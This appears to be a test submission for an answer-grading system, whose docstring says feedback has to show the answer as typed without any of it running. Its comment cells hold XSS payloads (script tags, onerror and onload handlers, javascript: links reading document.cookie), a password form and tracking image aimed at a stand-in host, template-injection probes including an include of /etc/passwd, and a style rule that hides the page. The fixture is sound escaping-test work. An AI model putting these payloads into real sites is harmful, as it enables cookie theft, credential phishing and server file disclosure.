"""Answers the question with scripts, forms, terminal commands and links that run.

Must: feedback shows the answer as it was typed, and nothing of it acts.
"""
# points: 5
# reason: All right

# %% prose
# <script id="pwned">alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>
# [click](javascript:alert(document.cookie)) ![](http://pwned.example/track.png)
# <form action="http://pwned.example"><input name=password></form></div></main></body>
# `<script id="pwned">` {{ 7 * 7 }} {% include "/etc/passwd" %} ${7*7} $$\href{javascript:alert(1)}{x}$$

# %% markdown
# <iframe src="javascript:alert(1)" id="pwned"></iframe><style>body { display: none }</style>
